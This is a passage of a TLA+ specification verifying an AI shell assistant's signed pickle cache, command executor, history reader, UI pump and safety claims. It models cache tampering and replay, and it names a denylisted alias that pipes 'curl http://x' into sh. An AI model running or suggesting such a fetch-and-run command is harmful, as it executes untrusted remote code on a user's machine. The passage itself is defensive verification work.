sign_cache(secret, data) == HmacDigest(secret, data) \o data

\* What a function returns for Python's None.
None == [none |-> TRUE]

\* The bytes _verify_cache returns when the signature is right (b"" is such
\* a value, and is not None).
Verified(data) == [data |-> data]

\* A slip in _verify_cache: the secret is the same in every process.
verify_cache_fixed_secret(secret, signed_data) ==
    IF Len(signed_data) < DigestSize THEN None
    ELSE LET signature == SubSeq(signed_data, 1, DigestSize)
             data == SubSeq(signed_data, DigestSize + 1, Len(signed_data))
         IN  IF signature = HmacDigest(1, data)
             THEN Verified(data) ELSE None

\* A slip in _verify_cache: the signature is not compared.
verify_cache_unchecked(secret, signed_data) ==
    IF Len(signed_data) < DigestSize THEN None
    ELSE Verified(SubSeq(signed_data, DigestSize + 1, Len(signed_data)))

\* _verify_cache(signed_data), with CACHE_SECRET = secret
verify_cache(secret, signed_data) ==
    IF Len(signed_data) < DigestSize THEN None
    ELSE LET signature == SubSeq(signed_data, 1, DigestSize)
             data == SubSeq(signed_data, DigestSize + 1, Len(signed_data))
         IN  IF signature = HmacDigest(secret, data)
             THEN Verified(data) ELSE None

\* The keys of a response dict, in the order pickle writes them.
ResponseKeys == <<"command", "explanation">>

\* pickle.dumps(response): a header unit, the items, a stop unit.
RECURSIVE DumpItems(_, _)
DumpItems(response, k) ==
    IF k > Len(ResponseKeys) THEN <<>>
    ELSE (IF ResponseKeys[k] \in DOMAIN response
          THEN <<ResponseKeys[k], response[ResponseKeys[k]]>> ELSE <<>>)
         \o DumpItems(response, k + 1)

PickleDumps(response) == <<"PROTO">> \o DumpItems(response, 1) \o <<"STOP">>

\* Whether pickle.loads(data) returns (it raises otherwise).
PickleLoadable(data) ==
    /\ Len(data) >= 2
    /\ data[1] = "PROTO"
    /\ data[Len(data)] = "STOP"
    /\ Len(data) % 2 = 0
    /\ \A i \in 1..((Len(data) - 2) \div 2) :
          /\ \E k \in DOMAIN ResponseKeys : ResponseKeys[k] = data[2 * i]
          /\ \A j \in 1..(i - 1) : data[2 * j] # data[2 * i]

\* pickle.loads(data) for loadable data
PickleLoads(data) ==
    [key \in {data[2 * i] : i \in 1..((Len(data) - 2) \div 2)} |->
        data[1 + 2 * (CHOOSE i \in 1..((Len(data) - 2) \div 2) :
                         data[2 * i] = key)]]

\* The (query, profile) pairs the cache is called with; the two give the
\* digest the same text.
CachePairs == { <<"ls", "a|b">>, <<"ls|a", "b">> }

EmptyResponse == [k \in {} |-> ""]

\* The response dicts handed to _cache_response.
Responses ==
    { EmptyResponse,
      [k \in {"command", "explanation"} |-> IF k = "command" THEN "df" ELSE "ls"] }

\* How many processes (secrets) a behaviour sees, and how far its clock runs.
MaxProcesses == 2

MaxTicks == 3

TickStep == CACHE_TTL \div 2

\* What the storage does to _cache_response: nothing wrong, open() raises,
\* write() raises after part of the bytes.  (A chmod() that raises leaves
\* the directory as "none" does.)
PutFaults == {"none", "open", "write"}

\* What the storage does to _get_cached_response: nothing wrong, the read
\* raises, unlink() raises.
GetFaults == {"none", "read", "unlink"}

\* A unit that no digest and no pickle holds.
Garbage == "XX"

InitCache ==
    /\ SessionUnused
    /\ ClassifyUnused
    /\ ExecuteUnused
    /\ HistoryUnused
    /\ PumpUnused
    /\ CACHE_SECRET = 1
    /\ cache_dir = <<>>
    /\ clock = 0
    /\ cache_call = <<>>
    /\ copied = <<>>

\* The directory `dir` with the file of `key` holding `bytes`, written at
\* `mtime`.
WriteFile(dir, key, bytes, mtime) ==
    [k \in DOMAIN dir \cup {key} |->
        IF k = key THEN [bytes |-> bytes, mtime |-> mtime] ELSE dir[k]]

\* The directory `dir` without the file of `key`.
Unlink(dir, key) == [k \in DOMAIN dir \ {key} |-> dir[k]]

\* The record of a cache operation: what was called with which arguments,
\* what the storage (or, for "tamper", the intruder) did, the bytes a get
\* found in the file, the value handed back, and whether an exception left
\* the function.
CacheCall(op, query, profile, response, storage, found, returned, raised) ==
    [op |-> op, query |-> query, profile |-> profile, response |-> response,
     storage |-> storage, found |-> found, returned |-> returned,
     raised |-> raised]

\* A slip in _cache_response: the exception of a storage fault is let out.
put_raises_on_fault(fault) == fault # "none"

\* Whether an exception leaves _cache_response: "except Exception: pass"
\* swallows whatever the storage raised.
put_raises(fault) == FALSE

\* A slip in _get_cached_response: the age of the file is not looked at.
fresh_always(age) == TRUE

\* "if age < CACHE_TTL": the file is young enough to be read.
fresh(age) == age < CACHE_TTL

\* The lengths at which a write that raises can have stopped.
PartialLengths(signed_data) == {0, Len(signed_data) - 1}

\* The lengths a write can reach under the fault: all of the bytes unless
\* write() raises.
WrittenLengths(fault, signed_data) ==
    IF fault = "write" THEN PartialLengths(signed_data)
    ELSE {Len(signed_data)}

\* _cache_response(query, profile, response) in the directory `dir`, by the
\* process of `secret` at time `now`, the storage doing `fault` and the
\* write reaching `n` units: the directory it leaves.
cache_response(dir, secret, now, query, profile, response, fault, n) ==
    LET cache_key == get_cache_key(query, profile)
        data == PickleDumps(response)
        signed_data == sign_cache(secret, data)
    IN  IF fault = "open" THEN dir
        ELSE WriteFile(dir, cache_key, SubSeq(signed_data, 1, n), now)

\* _cache_response as a step of its own: every exception is swallowed.
CacheResponse(query, profile, response) ==
    \E fault \in PutFaults :
      \E n \in WrittenLengths(fault, sign_cache(CACHE_SECRET,
                                                PickleDumps(response))) :
        /\ cache_dir' = cache_response(cache_dir, CACHE_SECRET, clock, query,
                                       profile, response, fault, n)
        /\ cache_call' = CacheCall("put", query, profile, response, fault,
                                   <<>>, None, put_raises(fault))
        /\ UNCHANGED <<CACHE_SECRET, clock, copied>>

\* _get_cached_response(query, profile) in the directory `dir`, by the
\* process of `secret` at time `now`, the storage doing `fault`: the
\* directory it leaves, the bytes it found, the value handed back
\* (`returned`), whether an exception left the function instead (`raised`),
\* and whether the fault has anything to act on (`applies`).
get_cached_response(dir, secret, now, query, profile, fault) ==
    LET cache_key == get_cache_key(query, profile)
        cant_read == fault = "read"
        cant_unlink == fault = "unlink"
        Ends(left, returned, raised, applies) ==
            [dir |-> left,
             found |-> IF cache_key \in DOMAIN dir
                       THEN dir[cache_key].bytes ELSE <<>>,
             returned |-> returned, raised |-> raised, applies |-> applies]
        \* cache_file.unlink() in the except clause, or inside the try
        \* block, where a failure lands in the except clause's unlink
        Purge == IF cant_unlink THEN Ends(dir, None, TRUE, TRUE)
                 ELSE Ends(Unlink(dir, cache_key), None, FALSE, TRUE)
    IN  IF cache_key \notin DOMAIN dir
        THEN Ends(dir, None, FALSE, fault = "none")
        ELSE LET age == now - dir[cache_key].mtime IN
             IF ~fresh(age) THEN Ends(dir, None, FALSE, fault = "none")
             ELSE IF cant_read THEN Purge
             ELSE LET data == verify_cache(secret, dir[cache_key].bytes)
                  IN  IF data = None THEN Purge
                      ELSE IF ~PickleLoadable(data.data) THEN Purge
                      ELSE Ends(dir, PickleLoads(data.data), FALSE,
                                fault = "none")

\* _get_cached_response as a step of its own.
GetCachedResponse(query, profile) ==
    \E fault \in GetFaults :
        LET got == get_cached_response(cache_dir, CACHE_SECRET, clock, query,
                                       profile, fault)
        IN  /\ got.applies
            /\ cache_dir' = got.dir
            /\ cache_call' = CacheCall("get", query, profile, None, fault,
                                       got.found, got.returned, got.raised)
            /\ UNCHANGED <<CACHE_SECRET, clock, copied>>

\* What generate_content() and _parse_json() come to: a reply that parses
\* to a dict, a reply that is no JSON, a call that raises.
OracleReplies ==
    {[kind |-> "parsed", parsed |-> response] : response \in Responses}
    \cup {[kind |-> "unparseable", parsed |-> None],
          [kind |-> "error", parsed |-> None]}

\* The dict get_ai_response returns when the reply does not parse, and when
\* the call raises.
FallbackResponse(kind) ==
    [k \in {"command", "explanation"} |->
        IF k = "command" THEN ""
        ELSE IF kind = "unparseable" THEN "raw text" ELSE "API error"]

\* Python's truth value of what _get_cached_response returned: None and the
\* empty dict are false.
truthy(value) == value # None /\ DOMAIN value # {}

\* A slip in get_ai_response: the except clauses cache what they return.
CachedWithFallback(reply) ==
    IF reply.kind = "parsed" THEN reply.parsed
    ELSE FallbackResponse(reply.kind)

\* The dict get_ai_response hands to _cache_response after the oracle's
\* reply: the parsed reply; nothing when the call raised or the reply did
\* not parse, since control is in an except clause by then.
Cached(reply) == IF reply.kind = "parsed" THEN reply.parsed ELSE None

\* The record of a request: the arguments, what the storage did to the
\* lookup and to the write, the bytes the lookup found, whether the oracle
\* was called and what it replied, the value handed back, and whether an
\* exception left the function.
AskCall(query, profile, storage, found, oracle, reply, put, returned, raised) ==
    [op |-> "ask", query |-> query, profile |-> profile, storage |-> storage,
     found |-> found, oracle |-> oracle, reply |-> reply,
     put_storage |-> put, returned |-> returned, raised |-> raised]

\* get_ai_response(user_query, system_profile_md, context): the cache is
\* asked first; the oracle is called when the cache gave nothing true, and
\* a reply that parses is put into the cache.
GetAIResponse(query, profile) ==
    \E get_fault \in GetFaults :
        LET got == get_cached_response(cache_dir, CACHE_SECRET, clock, query,
                                       profile, get_fault)
            NoReply == [kind |-> "none", parsed |-> None]
        IN  /\ got.applies
            /\ IF got.raised
               THEN /\ cache_dir' = got.dir
                    /\ cache_call' = AskCall(query, profile, get_fault,
                                             got.found, FALSE, NoReply,
                                             "none", None, TRUE)
               ELSE IF truthy(got.returned)
               THEN /\ cache_dir' = got.dir
                    /\ cache_call' = AskCall(query, profile, get_fault,
                                             got.found, FALSE, NoReply,
                                             "none", got.returned, FALSE)
               ELSE \E reply \in OracleReplies :
                      IF Cached(reply) # None
                      THEN \E put_fault \in PutFaults :
                           \E n \in WrittenLengths(put_fault,
                                       sign_cache(CACHE_SECRET,
                                                  PickleDumps(Cached(reply)))) :
                             /\ cache_dir' =
                                   cache_response(got.dir, CACHE_SECRET,
                                                  clock, query, profile,
                                                  Cached(reply), put_fault, n)
                             /\ cache_call' =
                                   AskCall(query, profile, get_fault,
                                           got.found, TRUE, reply, put_fault,
                                           Cached(reply),
                                           put_raises(put_fault))
                      ELSE /\ cache_dir' = got.dir
                           /\ cache_call' =
                                 AskCall(query, profile, get_fault, got.found,
                                         TRUE, reply, "none",
                                         FallbackResponse(reply.kind), FALSE)
            /\ UNCHANGED <<CACHE_SECRET, clock, copied>>

\* The process ends and a new one starts: os.urandom gives it a new secret.
NewProcess ==
    /\ CACHE_SECRET < MaxProcesses
    /\ CACHE_SECRET' = CACHE_SECRET + 1
    /\ cache_call' = CacheCall("start", "", "", None, "none", <<>>, None,
                               FALSE)
    /\ UNCHANGED <<cache_dir, clock, copied>>

\* Time passes.
Tick ==
    /\ clock < MaxTicks * TickStep
    /\ clock' = clock + TickStep
    /\ UNCHANGED <<CACHE_SECRET, cache_dir, cache_call, copied>>

\* The bytes are a record as some process signed it.
Intact(bytes) ==
    \E secret \in 1..MaxProcesses : verify_cache(secret, bytes) # None

\* Somebody with access to the cache directory copies the bytes of a file
\* that holds a signed record.
Copy ==
    \E cache_key \in DOMAIN cache_dir :
        /\ Intact(cache_dir[cache_key].bytes)
        /\ copied # cache_dir[cache_key].bytes
        /\ copied' = cache_dir[cache_key].bytes
        /\ cache_call' = CacheCall("copy", "", "", None, "none", <<>>, None,
                                   FALSE)
        /\ UNCHANGED <<CACHE_SECRET, cache_dir, clock>>

\* The ways the bytes of a file are changed behind the program's back: a
\* unit of the signature, a unit of the data, a cut below the width of the
\* signature, the bytes copied earlier put in their place.
TamperKinds == {"signature", "data", "truncate", "replace"}

Tampered(bytes, how) ==
    CASE how = "signature" ->
            IF Len(bytes) >= 1
            THEN <<Garbage>> \o SubSeq(bytes, 2, Len(bytes)) ELSE bytes
      [] how = "data" ->
            IF Len(bytes) > DigestSize
            THEN SubSeq(bytes, 1, Len(bytes) - 1) \o <<Garbage>> ELSE bytes
      [] how = "truncate" ->
            IF Len(bytes) >= DigestSize
            THEN SubSeq(bytes, 1, DigestSize - 1) ELSE bytes
      [] how = "replace" ->
            IF copied # <<>> THEN copied ELSE bytes

\* A file of the cache directory that holds a signed record is changed
\* behind the program's back; its modification time is put back.
Tamper ==
    \E cache_key \in DOMAIN cache_dir, how \in TamperKinds :
        LET bytes == Tampered(cache_dir[cache_key].bytes, how)
        IN  /\ Intact(cache_dir[cache_key].bytes)
            /\ bytes # cache_dir[cache_key].bytes
            /\ cache_dir' = WriteFile(cache_dir, cache_key, bytes,
                                      cache_dir[cache_key].mtime)
            /\ cache_call' = CacheCall("tamper", "", "", None, how, <<>>,
                                       None, FALSE)
            /\ UNCHANGED <<CACHE_SECRET, clock, copied>>

\* What no step of the cache touches.
notCacheVars == <<sessionVars, classifyVars, executeVars, historyVars,
                  pumpVars>>

NextCache ==
    \/ \E pair \in CachePairs, response \in Responses :
          /\ CacheResponse(pair[1], pair[2], response)
          /\ UNCHANGED notCacheVars
    \/ \E pair \in CachePairs :
          /\ GetCachedResponse(pair[1], pair[2])
          /\ UNCHANGED notCacheVars
    \/ NewProcess /\ UNCHANGED notCacheVars
    \/ Tick /\ UNCHANGED notCacheVars
    \/ Copy /\ UNCHANGED notCacheVars
    \/ Tamper /\ UNCHANGED notCacheVars

SpecCache == InitCache /\ [][NextCache]_vars

\* The requests of the processes that follow one another on one cache
\* directory, with nothing else touching the directory.
NextAsk ==
    \/ \E pair \in CachePairs :
          /\ GetAIResponse(pair[1], pair[2])
          /\ UNCHANGED notCacheVars
    \/ NewProcess /\ UNCHANGED notCacheVars
    \/ Tick /\ UNCHANGED notCacheVars

SpecAsk == InitCache /\ [][NextAsk]_vars

(***************************************************************************)
(* executor.py: execute on its own.  What the child process does is the    *)
(* environment's choice.                                                   *)
(***************************************************************************)

ExecuteCommands == {"", "true", "exit 3", "sleep 60"}

\* The longest timeout below the default that execute is called with.
MaxTimeout == 2

Timeouts == 0..MaxTimeout \cup {DefaultTimeout}

\* 0 and 1..255 are exits of the shell, -N is the shell killed by signal N.
ReturnCodes == {0, 1, 127, -1, -9}

\* The streams of a child that returned.
Captured == { <<"ok", "">>, <<"", "sh: 1: nope: not found">> }

\* str(e) of what subprocess.run raises besides TimeoutExpired.
FaultMessages ==
    { "[Errno 2] No such file or directory: '/bin/sh'",
      "embedded null byte" }

\* int((time.time() - start) * 1000) of a call that came back within
\* `limit` milliseconds; time.time() is the wall clock, which can be set
\* back during the call.
ElapsedTimes(limit) == {-1, 0, limit}

\* What subprocess.run(command, timeout=timeout) can do.
RunOutcomes(timeout) ==
    { [kind |-> "exit", returncode |-> rc, stdout |-> io[1],
       stderr |-> io[2], elapsed_ms |-> ms] :
         rc \in ReturnCodes, io \in Captured,
         ms \in ElapsedTimes(timeout * 1000) }
    \cup { [kind |-> "timeout", elapsed_ms |-> timeout * 1000 + 1] }
    \cup { [kind |-> "fault", message |-> msg, elapsed_ms |-> ms] :
             msg \in FaultMessages, ms \in ElapsedTimes(timeout * 1000) }

InitExecute ==
    /\ SessionUnused
    /\ ClassifyUnused
    /\ CacheUnused
    /\ HistoryUnused
    /\ PumpUnused
    /\ execute_command \in ExecuteCommands
    /\ execute_timeout \in Timeouts
    /\ execute_outcome = <<>>
    /\ execute_result = <<>>

\* The one call of execute.
Execute ==
    /\ execute_result = <<>>
    /\ \E outcome \in RunOutcomes(execute_timeout) :
          /\ execute_outcome' = outcome
          /\ execute_result' = execute(execute_command, execute_timeout,
                                       outcome)
    /\ UNCHANGED <<execute_command, execute_timeout, sessionVars,
                   classifyVars, cacheVars, historyVars, pumpVars>>

NextExecute == Execute

SpecExecute == InitExecute /\ [][NextExecute]_vars

(***************************************************************************)
(* executor.py: read_shell_history.  The history file is missing, or       *)
(* cannot be read, or holds a text.                                        *)
(***************************************************************************)

\* str.split(sep, maxsplit); a maxsplit of -1 sets no limit.
RECURSIVE Split(_, _, _)
Split(s, sep, maxsplit) ==
    LET hits == {i \in 1..(Len(s) - Len(sep) + 1) :
                    SubSeq(s, i, i + Len(sep) - 1) = sep}
    IN  IF maxsplit = 0 \/ hits = {} THEN <<s>>
        ELSE LET i == CHOOSE m \in hits : \A n \in hits : m <= n
             IN  <<SubSeq(s, 1, i - 1)>>
                 \o Split(SubSeq(s, i + Len(sep), Len(s)), sep, maxsplit - 1)

\* os.path.basename(path)
Basename(p) == LET parts == Split(p, "/", -1) IN parts[Len(parts)]

\* list[start:] of Python, for any integer start.
SliceFrom(list, start) ==
    LET from == IF start < 0
                THEN (IF Len(list) + start < 0 THEN 0 ELSE Len(list) + start)
                ELSE (IF start > Len(list) THEN Len(list) ELSE start)
    IN  SubSeq(list, from + 1, Len(list))

\* The zsh branch: a ": timestamp:0:command" line gives its fourth field, a
\* line of that kind with fewer fields gives nothing, any other line gives
\* itself.
RECURSIVE ZshCleaned(_, _)
ZshCleaned(lines, k) ==
    IF k > Len(lines) THEN <<>>
    ELSE LET line == lines[k]
             parts == Split(line, ":", 3)
         IN  (IF StartsWith(line, ": ")
              THEN (IF Len(parts) >= 4 THEN <<Strip(parts[4])>> ELSE <<>>)
              ELSE <<Strip(line)>>)
             \o ZshCleaned(lines, k + 1)

\* The fish branch: only the "- cmd: command" lines give anything.
RECURSIVE FishCleaned(_, _)
FishCleaned(lines, k) ==
    IF k > Len(lines) THEN <<>>
    ELSE LET line == lines[k]
         IN  (IF StartsWith(line, "- cmd: ")
              THEN <<Strip(SubSeq(line, 8, Len(line)))>> ELSE <<>>)
             \o FishCleaned(lines, k + 1)

\* [l.strip() for l in lines if l.strip()]
RECURSIVE NonEmptyStripped(_, _)
NonEmptyStripped(lines, k) ==
    IF k > Len(lines) THEN <<>>
    ELSE (IF Strip(lines[k]) # "" THEN <<Strip(lines[k])>> ELSE <<>>)
         \o NonEmptyStripped(lines, k + 1)

\* read_shell_history(n) with $SHELL = shell and the history file of that
\* shell being `file`.
read_shell_history(shell, file, n) ==
    LET shell_name == Basename(shell)
    IN  IF file.kind # "text" THEN <<>>
        ELSE LET read == Split(Strip(file.content), "\n", -1)
                 lines == IF shell_name = "zsh" THEN ZshCleaned(read, 1)
                          ELSE IF shell_name = "fish"
                          THEN FishCleaned(read, 1)
                          ELSE read
             IN  SliceFrom(NonEmptyStripped(lines, 1), 0 - n)

\* The values of $SHELL; "/bin/sh" is read as bash is.
Shells == {"/bin/bash", "/usr/bin/zsh", "/usr/bin/fish", "/bin/sh"}

\* The lines a history file is made of.
HistoryLines ==
    << "ls", " pwd ", "", ": 1:0:cd /a", ": 1:0", ": 1:0:echo a:b",
       " : 1:0:df", "- cmd: ls", "  when: 1" >>

\* The most lines a history file holds, and the largest n asked for.
MaxHistoryLines == 2

MaxEntries == 2

\* The text of a file with the given lines.
RECURSIVE JoinLines(_)
JoinLines(lines) ==
    IF lines = <<>> THEN ""
    ELSE lines[1] \o "\n" \o JoinLines(Tail(lines))

HistoryFiles ==
    { [kind |-> "missing", content |-> ""],
      [kind |-> "unreadable", content |-> ""] }
    \cup { [kind |-> "text",
            content |-> JoinLines([i \in 1..len |-> HistoryLines[pick[i]]])] :
             len \in 0..MaxHistoryLines,
             pick \in [1..MaxHistoryLines -> DOMAIN HistoryLines] }

InitHistory ==
    /\ SessionUnused
    /\ ClassifyUnused
    /\ CacheUnused
    /\ ExecuteUnused
    /\ PumpUnused
    /\ history_shell \in Shells
    /\ history_file \in HistoryFiles
    /\ history_n \in 0..MaxEntries
    /\ history_result = <<>>

\* The one call of read_shell_history.
ReadShellHistory ==
    /\ history_result = <<>>
    /\ history_result' = <<read_shell_history(history_shell, history_file,
                                              history_n)>>
    /\ UNCHANGED <<history_shell, history_file, history_n, sessionVars,
                   classifyVars, cacheVars, executeVars, pumpVars>>

NextHistory == ReadShellHistory

SpecHistory == InitHistory /\ [][NextHistory]_vars

(***************************************************************************)
(* tui_app.py: how submitted inputs reach _handle_input.  The text area    *)
(* posts a Submitted message; on_submit_text_area_submitted answers it     *)
(* with call_later(self._handle_input, raw), which posts a callback to the *)
(* App's own queue; the App's message pump takes one message at a time and *)
(* awaits its handler before it takes the next.  execute() and             *)
(* get_error_fix() are called inside the coroutine and block the event     *)
(* loop; get_ai_response_async hands the oracle call to a thread and       *)
(* awaits it.                                                              *)
(***************************************************************************)

\* How many inputs the user submits in a behaviour.
MaxSubmits == 3

\* What the user submits: a raw command, a question for the oracle, blanks.
PumpTexts == {"run ls", "list files", "  "}

Submitted(id, text) == [type |-> "Submitted", id |-> id, text |-> text]

Callback(id, raw) == [type |-> "Callback", id |-> id, raw |-> raw]

\* A slip in the dispatch: the coroutine is started as a task of its own
\* and the pump goes on to the next message.
pump_never_waits(running_handlers) == FALSE

\* The pump is inside the handler of a message: it awaits the callback it
\* invoked, and takes no message from the queue until that has returned.
pump_waits(running_handlers) == running_handlers # {}

\* execute() is running: subprocess.run blocks the thread of the event
\* loop, on which every pump and every coroutine runs.
LoopBlocked == executing # {}

InitPump ==
    /\ SessionUnused
    /\ ClassifyUnused
    /\ CacheUnused
    /\ ExecuteUnused
    /\ HistoryUnused
    /\ message_queue = <<>>
    /\ handlers = {}
    /\ submitted = 0
    /\ executing = {}
    /\ delivered = <<>>

\* SubmitTextArea.on_key: Enter posts Submitted(self.text).  The key is read
\* by the terminal driver whatever the event loop is doing; the message
\* arrives at the App's queue in the order of the keys.
Submit ==
    /\ submitted < MaxSubmits
    /\ \E text \in PumpTexts :
          message_queue' = Append(message_queue,
                                  Submitted(submitted + 1, text))
    /\ submitted' = submitted + 1
    /\ UNCHANGED <<handlers, executing, delivered>>

\* The App's pump takes the next message: a Submitted message is answered
\* by on_submit_text_area_submitted, a callback begins _handle_input(raw).
Dispatch ==
    /\ ~LoopBlocked
    /\ ~pump_waits(handlers)
    /\ message_queue # <<>>
    /\ LET message == Head(message_queue) IN
       IF message.type = "Submitted"
       THEN LET raw == Strip(message.text) IN
            /\ message_queue' =
                  IF raw # ""
                  THEN Append(Tail(message_queue), Callback(message.id, raw))
                  ELSE Tail(message_queue)
            /\ UNCHANGED handlers
       ELSE /\ message_queue' = Tail(message_queue)
            /\ handlers' = handlers \cup
                  {[id |-> message.id, raw |-> message.raw, at |-> "start"]}
    /\ UNCHANGED <<submitted, executing, delivered>>

\* The coroutine with its position changed, or gone when it has returned.
Moved(handler, at) ==
    (handlers \ {handler})
    \cup (IF at = "done" THEN {} ELSE {[handler EXCEPT !.at = at]})

\* _handle_input(raw) goes on to its next suspension point: "run <cmd>"
\* calls execute() through _run_command and writes the result; any other
\* text awaits get_ai_response_async and writes the response.
HandlerStep ==
    \E handler \in handlers :
        LET runs == StartsWith(Lower(handler.raw), "run ") IN
        /\ CASE handler.at = "start" /\ runs ->
                   /\ ~LoopBlocked
                   /\ handlers' = Moved(handler, "execute")
                   /\ executing' = executing \cup {handler.id}
                   /\ UNCHANGED delivered
             [] handler.at = "execute" ->
                   /\ handlers' = Moved(handler, "done")
                   /\ executing' = executing \ {handler.id}
                   /\ delivered' = Append(delivered, handler.id)
             [] handler.at = "start" /\ ~runs ->
                   /\ ~LoopBlocked
                   /\ handlers' = Moved(handler, "oracle")
                   /\ UNCHANGED <<executing, delivered>>
             [] handler.at = "oracle" ->
                   /\ ~LoopBlocked
                   /\ handlers' = Moved(handler, "done")
                   /\ delivered' = Append(delivered, handler.id)
                   /\ UNCHANGED executing
        /\ UNCHANGED <<message_queue, submitted>>

\* What no step of the pump touches.
notPumpVars == <<sessionVars, classifyVars, cacheVars, executeVars,
                 historyVars>>

NextPump ==
    \/ Submit /\ UNCHANGED notPumpVars
    \/ Dispatch /\ UNCHANGED notPumpVars
    \/ HandlerStep /\ UNCHANGED notPumpVars

SpecPump == InitPump /\ [][NextPump]_vars

(***************************************************************************)
(* The claims.  The states of the confirmation machine are read off the    *)
(* two pending fields: Idle has neither set, AwaitingCommandConfirm(c) has *)
(* _pending_cmd = c and no alias, AwaitingAliasConfirm(n, aliases[n]) has  *)
(* _pending_alias = n and no command.                                      *)
(***************************************************************************)

Idle == _pending_cmd = "" /\ _pending_alias = ""

AwaitingCommand == _pending_cmd # "" /\ _pending_alias = ""

AwaitingAlias == _pending_cmd = "" /\ _pending_alias # ""

\* The vocabulary of confirm() and cancel(), in every letter case.
YesWords == {"y", "Y", "yes", "Yes", "yEs", "yeS", "YEs", "YeS", "yES", "YES"}

NoWords == {"n", "N", "no", "No", "nO", "NO"}

Dangerous(command) == check_safety(command)[1] = "dangerous"

\* C1: the sandbox (execute) is never invoked on a command check_safety
\* classifies as dangerous, whatever the way the command was reached.
C1_NeverExecutesDangerous ==
    \A i \in DOMAIN ran : ~Dangerous(ran[i])

\* C2: every execution of a command c is the direct effect of an affirmative
\* input received while c was the pending action (the pending command, or the
\* command the pending alias resolves to); no other input executes anything.
C2_ExecutesOnlyOnConfirm ==
    [][ran' # <<>> =>
          /\ last_raw' \in YesWords
          /\ \/ AwaitingCommand /\ ran' = <<_pending_cmd>>
             \/ AwaitingAlias /\ ran' = <<aliases[_pending_alias]>>]_vars

\* C3: in every reachable state the pending command, if any, is not
\* classified dangerous.
C3_PendingNeverDangerous ==
    _pending_cmd # "" => ~Dangerous(_pending_cmd)

\* C4: in every reachable state at most one pending action exists: the
\* pending command and the pending alias are never both set.
C4_AtMostOnePending ==
    ~(_pending_cmd # "" /\ _pending_alias # "")

\* C5: after proposeCommand(a); proposeCommand(b) for non-dangerous a # b (the
\* proposal of b has just replaced the pending a), confirm() executes b
\* exactly once and does not execute a.
C5_ConfirmExecutesLastProposal ==
    [][(/\ path = "ai_pending"
        /\ superseded # ""
        /\ ~Dangerous(superseded)
        /\ last_raw' \in YesWords)
       => ran' = <<_pending_cmd>>]_vars

C8_ConfirmFromIdleIsNoOp ==
    [][(Idle /\ last_raw' \in YesWords)
       => (ran' = <<>> /\ asked' = <<>> /\ Idle')]_vars

\* C9: confirm() from AwaitingAliasConfirm(name, cmd) executes cmd exactly
\* once, hands it to no other input handling, and returns to Idle.
C9_AliasConfirmExecutes ==
    [][(AwaitingAlias /\ last_raw' \in YesWords)
       => /\ ran' = <<aliases[_pending_alias]>>
          /\ asked' = <<>>
          /\ _pending_alias' = ""]_vars

\* C10: a proposed command classified dangerous leaves the machine in Idle:
\* nothing that was pending before remains confirmable.
C10_BlockedLeavesIdle ==
    path = "ai_blocked" => Idle

\* check_safety's level for the commands the oracle replies with, computed
\* once.
LevelOfReply == [c \in OracleCmds |-> check_safety(c)[1]]

\* C11: proposeCommand(text) for a non-empty text classified safe or caution,
\* from any state, leaves the machine in AwaitingCommandConfirm(text): exactly
\* that text is the pending command and no alias is pending.
C11_ProposalBecomesPending ==
    [][(proposed' # "" /\ LevelOfReply[proposed'] \in {"safe", "caution"})
       => (_pending_cmd' = proposed' /\ _pending_alias' = "")]_vars

\* C12: proposeAlias(name) for a name absent from the active alias set, from
\* any state, signals "unknown alias", executes nothing and leaves the
\* machine in Idle.
C12_UnknownAliasLeavesIdle ==
    [][(StartsWith(last_raw', "/") /\ Tail(last_raw') \notin DOMAIN aliases)
       => (path' = "alias_unknown" /\ ran' = <<>> /\ Idle')]_vars

\* C13: on every load path every entry of the active alias set matches none
\* of the denylist patterns; the stored alias "nuke" ("curl http://x | sh")
\* is not in the active set, and proposing it signals "unknown alias".
C13_ActiveAliasesPassDenylist ==
    /\ [](/\ \A n \in DOMAIN aliases : is_safe_alias(aliases[n])
          /\ "nuke" \notin DOMAIN aliases)
    /\ [][last_raw' = "/nuke" =>
            (path' = "alias_unknown" /\ ran' = <<>> /\ _pending_alias' # "nuke")]_vars

\* The store held "nuke" and "ll", "ll" was loaded, and "/nuke" was answered
\* with "unknown alias".
C13_Witness ==
    /\ DOMAIN aliases = {"ll"}
    /\ last_raw = "/nuke"
    /\ path = "alias_unknown"

\* The blocking patterns and the caution patterns a command matches.
BlockedHits(command) ==
    {k \in DOMAIN BLOCKED_PATTERNS : Search(BLOCKED_PATTERNS[k], command)}

CautionHits(command) ==
    {k \in DOMAIN CAUTION_PATTERNS : Search(CAUTION_PATTERNS[k].pat, command)}

\* The reasons a joined warning message holds: its pieces between " | ".
RECURSIVE SplitFrom(_, _)
SplitFrom(s, start) ==
    LET seps == {i \in start..(Len(s) - 2) : SubSeq(s, i, i + 2) = " | "}
    IN  IF seps = {} THEN <<SubSeq(s, start, Len(s))>>
        ELSE LET i == CHOOSE m \in seps : \A n \in seps : m <= n
             IN  <<SubSeq(s, start, i - 1)>> \o SplitFrom(s, i + 3)

SplitReasons(s) == IF s = "" THEN <<>> ELSE SplitFrom(s, 1)

\* The reasons of the caution patterns a command matches, in registry order.
MatchingReasons(command) ==
    LET hit == SelectSeq(CAUTION_PATTERNS,
                         LAMBDA e : Search(e.pat, command))
    IN  [i \in DOMAIN hit |-> hit[i].msg]

\* C14: whenever the command matches at least one blocking pattern,
\* check_safety returns dangerous with the one fixed reason, whichever and
\* however many blocking patterns match and whatever caution patterns match
\* too.
C14_DangerousSingleReason ==
    (classify_result # <<>> /\ BlockedHits(classify_command) # {})
    => classify_result = <<"dangerous", MsgBlocked>>

\* A command matching several blocking patterns and a caution pattern was
\* classified.
C14_Witness ==
    /\ classify_result # <<>>
    /\ classify_result[1] = "dangerous"
    /\ Cardinality(BlockedHits(classify_command)) >= 2
    /\ CautionHits(classify_command) # {}

\* C15: for a command matching k >= 1 caution patterns and no blocking
\* pattern, check_safety returns caution with exactly k reasons, one per
\* matching pattern, in registry order, equal reasons repeated.
C15_CautionOneReasonPerPattern ==
    (/\ classify_result # <<>>
     /\ BlockedHits(classify_command) = {}
     /\ CautionHits(classify_command) # {})
    => /\ classify_result[1] = "caution"
       /\ SplitReasons(classify_result[2]) = MatchingReasons(classify_command)
       /\ Len(SplitReasons(classify_result[2]))
             = Cardinality(CautionHits(classify_command))

\* A caution verdict holds the same reason twice, from two patterns.
C15_Witness ==
    /\ classify_result # <<>>
    /\ classify_result[1] = "caution"
    /\ \E i, j \in DOMAIN SplitReasons(classify_result[2]) :
          /\ i < j
          /\ SplitReasons(classify_result[2])[i]
